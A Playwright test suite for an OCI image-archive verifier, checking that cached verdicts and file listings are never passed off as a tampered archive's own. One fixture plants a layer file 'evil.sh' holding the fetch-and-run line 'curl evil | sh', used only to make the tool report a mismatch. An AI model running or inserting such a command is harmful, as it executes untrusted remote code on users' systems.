/**
 * The library keys reports by the archive's content identity (its root documents and size), so a
 * same-size archive with other layer bytes has the same key. A verification kept for one file
 * must never read as the verdict on another: the page verifies every file it is given and says
 * "verified" only once this run has.
 */
import { test, expect, type Page } from '@playwright/test';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { gzipSync } from 'node:zlib';
import { GZIP_LAYER } from '../support/attacks.ts';
import { blob, ociArchive } from '../support/oci.ts';
import { sha256, writeTar } from '../support/tar.ts';
import { TAMPER_FIXTURE, tamperedFixture } from '../support/tampered.ts';
import { drop, fixture, summaryField, verified } from './helpers.ts';

const ORIGINAL = TAMPER_FIXTURE;
const TAMPERED = 'tampered-arm64-v8.tar';

const panel = (page: Page) => page.getByRole('region', { name: 'Verification' });
const status = (page: Page) => panel(page).getByRole('status');
const tabBar = (page: Page) => page.getByRole('navigation', { name: 'Open archives' });
const recent = (page: Page) => page.getByRole('region', { name: 'Recent images' });

/** Writes the tampered copy (same size and manifest.json, one layer byte changed) to `dir`. */
async function tamperedCopy(dir: string): Promise<string> {
  await mkdir(dir, { recursive: true });
  const out = `${dir}/${TAMPERED}`;
  await writeFile(out, await tamperedFixture());
  return out;
}

/** Clicks a download button; returns the downloaded text. */
async function download(page: Page, name: string): Promise<string> {
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name, exact: true }).click(),
  ]);
  return readFile((await file.path())!, 'utf8');
}

/** Records, from now on, everything the page says that vouches for a tab while it is the one
 * shown: a "Verified" summary, a platform or the tab marked verified, a finished progress bar
 * marked ok, a note that a kept verification is shown. Returns them by the tab's file name. */
async function watchClaims(page: Page): Promise<() => Promise<Record<string, string[]>>> {
  await page.evaluate(() => {
    const claims: Record<string, string[]> = {};
    (window as unknown as { claims: typeof claims }).claims = claims;
    const look = () => {
      const shown = document.querySelector<HTMLElement>(
        'nav[aria-label="Open archives"] [aria-current="page"]',
      );
      if (!shown) return;
      const said = (claims[shown.dataset.file ?? ''] ??= []);
      const say = (what: string) => {
        if (!said.includes(what)) said.push(what);
      };
      const summary = document.querySelector('section.verify [role="status"]')?.textContent ?? '';
      if (/^\s*Verified/i.test(summary)) say(`summary: ${summary.trim()}`);
      // A platform row, or the summary's verdict (one platform has no table). A layer of a
      // failed image may well be verified: its own bytes were hashed here.
      for (const badge of document.querySelectorAll('table.platforms tbody tr [data-state="ok"]'))
        say(`platform: ${badge.textContent}`);
      for (const badge of document.querySelectorAll('[data-field="verdict"] [data-state="ok"]'))
        say(`image: ${badge.textContent}`);
      if (document.querySelector('progress.verify-progress[data-status="ok"]')) say('progress: ok');
      const tabText = shown.textContent ?? '';
      if (/\((verified|report from cache)/.test(tabText)) say(`tab: ${tabText.trim()}`);
      const note = document.querySelector('aside.cached')?.textContent ?? '';
      if (/kept then are shown/.test(note)) say(`note: ${note.trim()}`);
    };
    new MutationObserver(look).observe(document.body, {
      subtree: true,
      childList: true,
      characterData: true,
      attributes: true,
    });
  });
  return () =>
    page.evaluate(() => (window as unknown as { claims: Record<string, string[]> }).claims);
}

test.beforeEach(async ({ page }) => {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Stevedore' })).toBeVisible();
});

test('a same-size archive with one layer byte changed is verified, never vouched for by the library', async ({
  page,
}, testInfo) => {
  const claims = await watchClaims(page);
  await drop(page, fixture(ORIGINAL));
  await expect(page.locator('progress.verify-progress')).toHaveAttribute('data-state', 'done');
  await expect(status(page)).toHaveText(/^Verified: all \d+ checks passed\.$/);
  // The watch sees what is said: this file was verified here.
  expect((await claims())[ORIGINAL]).toEqual(
    expect.arrayContaining([expect.stringMatching(/^summary: Verified: all/), 'progress: ok']),
  );

  const tampered = await tamperedCopy(testInfo.outputDir);
  await drop(page, tampered);
  await expect(
    tabBar(page).getByRole('button', { name: new RegExp(`${TAMPERED} \\(`) }),
  ).toHaveCount(1);
  // Downloaded at once: before its run has finished it is not verified, after it it failed.
  await expect(page.getByRole('heading', { level: 2, name: 'gen/arm64:v8' })).toBeVisible();
  const early = JSON.parse(await download(page, 'Download JSON')) as {
    verification: { status: string };
  };
  expect(['not-run', 'failed']).toContain(early.verification.status);

  await expect(page.locator('progress.verify-progress')).toHaveAttribute('data-state', 'done');
  await expect(status(page)).toHaveText(/^Verification failed: \d+ of \d+ checks failed\.$/);
  await expect(summaryField(page, 'verdict')).toHaveText('mismatch');
  await expect(
    tabBar(page).getByRole('button', { name: `${TAMPERED} (verification failed)` }),
  ).toHaveCount(1);
  const late = JSON.parse(await download(page, 'Download JSON')) as {
    verification: { status: string };
  };
  expect(late.verification.status).toBe('failed');
  expect((await claims())[TAMPERED]).toEqual([]);

  // The library now keeps this file's outcome, as history.
  await page.getByRole('button', { name: 'Recent images', exact: true }).click();
  await expect(recent(page).getByRole('listitem')).toHaveCount(1);
  await expect(recent(page).getByRole('listitem')).toContainText('history: verification failed on');
});

test('a report opened from the library alone is not verified: history only, and not-run in its JSON', async ({
  page,
}) => {
  await drop(page, fixture(ORIGINAL));
  await expect(page.locator('progress.verify-progress')).toHaveAttribute('data-state', 'done');
  await expect(status(page)).toHaveText(/^Verified: all \d+ checks passed\.$/);
  await page.getByRole('button', { name: 'Recent images', exact: true }).click();
  await recent(page).getByRole('button', { name: 'Open gen/arm64:v8' }).click();

  await expect(status(page)).toHaveText(
    /^Not verified \(history: verified on .+ for an archive with the same manifest\)\.$/,
  );
  const note = page.getByRole('complementary', { name: 'From cache' });
  await expect(note).toContainText('for an archive with the same manifest — not this file');
  await expect(summaryField(page, 'verdict')).toHaveText('not verified');
  await expect(
    tabBar(page).getByRole('button', {
      name: `${ORIGINAL} (report from the library, not verified)`,
    }),
  ).toHaveCount(1);
  const json = JSON.parse(await download(page, 'Download JSON')) as {
    verification: { status: string; checks: unknown[] };
  };
  expect(json.verification).toEqual({ status: 'not-run', checks: [] });
  await expect(
    panel(page).getByRole('button', { name: 'Download verification receipt' }),
  ).toBeDisabled();

  // The list says what was done, and when, as history.
  await page.getByRole('button', { name: 'Recent images', exact: true }).click();
  await expect(recent(page).getByRole('listitem')).toContainText('history: verified on');
});

/** Writes A, a good gzip layer (listed while verified and kept in the library under its
 * diff_id), and B, whose config claims the same diff_id over other bytes (an added evil.sh). */
async function claimingArchives(dir: string): Promise<{ a: string; b: string; evil: Uint8Array }> {
  const good = writeTar([{ name: 'good.txt', data: 'good\n' }]);
  const evil = writeTar([
    { name: 'good.txt', data: 'good\n' },
    { name: 'evil.sh', data: 'curl evil | sh\n' },
  ]);
  const archive = (ref: string, tar: Uint8Array) =>
    ociArchive({
      ref,
      layer: { layer: blob(gzipSync(tar)), diffId: sha256(good), mediaType: GZIP_LAYER },
    });
  await mkdir(dir, { recursive: true });
  const a = `${dir}/good.tar`;
  const b = `${dir}/claims-good.tar`;
  await writeFile(a, archive('victim:good', good));
  await writeFile(b, archive('victim:evil', evil));
  return { a, b, evil };
}

test('a layer whose config claims a cached diff_id: the kept listing is not shown as its files', async ({
  page,
}, testInfo) => {
  // A: a good layer, listed while verified and kept in the library under its diff_id.
  // B: the same config diff_id over other bytes (an added evil.sh): its listing must come from
  // its own bytes, or not at all; never A's, found in the library by the claimed diff_id.
  const { a, b, evil } = await claimingArchives(testInfo.outputDir);
  const files = page.getByTestId('files');

  await drop(page, a);
  await verified(page);
  await expect(status(page)).toHaveText(/^Verified: all \d+ checks passed\.$/);
  await files.getByRole('button', { name: 'Tree' }).click();
  await expect(files.getByRole('tree').locator('[data-path="good.txt"]')).toBeVisible();

  // A fresh page: only the library (IndexedDB) links the two.
  await page.reload();
  await drop(page, b);
  await verified(page);
  await expect(status(page)).toHaveText(/^Verification failed/);
  await expect(summaryField(page, 'verdict')).toHaveText('mismatch');
  // The Files view says why it shows nothing, and A's listing is not passed off as B's files.
  await expect(page.getByRole('region', { name: 'Files', exact: true })).toContainText(
    `layer 1 could not be listed: its content is ${sha256(evil)}, not this diff_id`,
  );
  await expect(page.getByRole('tree')).toHaveCount(0);
  await expect(page.getByText('good.txt')).toHaveCount(0);
});

test.describe('while the claimed layer is being checked', () => {
  // The verify worker's script is held back by a route, which a service worker would bypass.
  test.use({ serviceWorkers: 'block' });

  test('a kept listing shown before this run checks the layer says where it comes from', async ({
    page,
  }, testInfo) => {
    const { a, b, evil } = await claimingArchives(testInfo.outputDir);
    const files = page.getByTestId('files');
    const note = files.locator('[data-note="unconfirmed"]');

    await page.goto('/');
    await drop(page, a);
    await verified(page);
    await expect(files.locator('[data-path="good.txt"]').first()).toBeAttached();
    // Listed by this run from these bytes: nothing to say.
    await expect(note).toHaveCount(0);
    // Its listing is in the library once its record is written.
    await expect
      .poll(() =>
        page.evaluate(
          () =>
            new Promise<number>((resolve, reject) => {
              const open = indexedDB.open('stevedore-listings');
              open.onerror = () => reject(open.error);
              open.onsuccess = () => {
                const req = open.result
                  .transaction('listings')
                  .objectStore('listings')
                  .getAllKeys();
                req.onsuccess = () =>
                  resolve(req.result.filter((k) => String(k).startsWith('meta:')).length);
              };
            }),
        ),
      )
      .toBe(1);

    // A fresh page whose verify worker cannot start until let go: B's files come from the library
    // by the diff_id its config claims, and the view says they are not yet B's.
    let letGo!: () => void;
    const held = new Promise<void>((resolve) => (letGo = resolve));
    await page.route('**/*verify.worker*', async (route) => {
      await held;
      await route.continue();
    });
    await page.reload();
    await drop(page, b);
    await expect(note).toHaveText(
      'The files of layer 1 are shown from the library: they were listed from an earlier file ' +
        'with the same diff_id, and are this file’s once verification has checked its layer.',
    );
    letGo();
    await verified(page);
    // Checked: the bytes are not that diff_id, and the kept listing goes with the note.
    await expect(page.getByRole('region', { name: 'Files', exact: true })).toContainText(
      `layer 1 could not be listed: its content is ${sha256(evil)}, not this diff_id`,
    );
    await expect(note).toHaveCount(0);
    await expect(page.getByText('good.txt')).toHaveCount(0);
  });
});
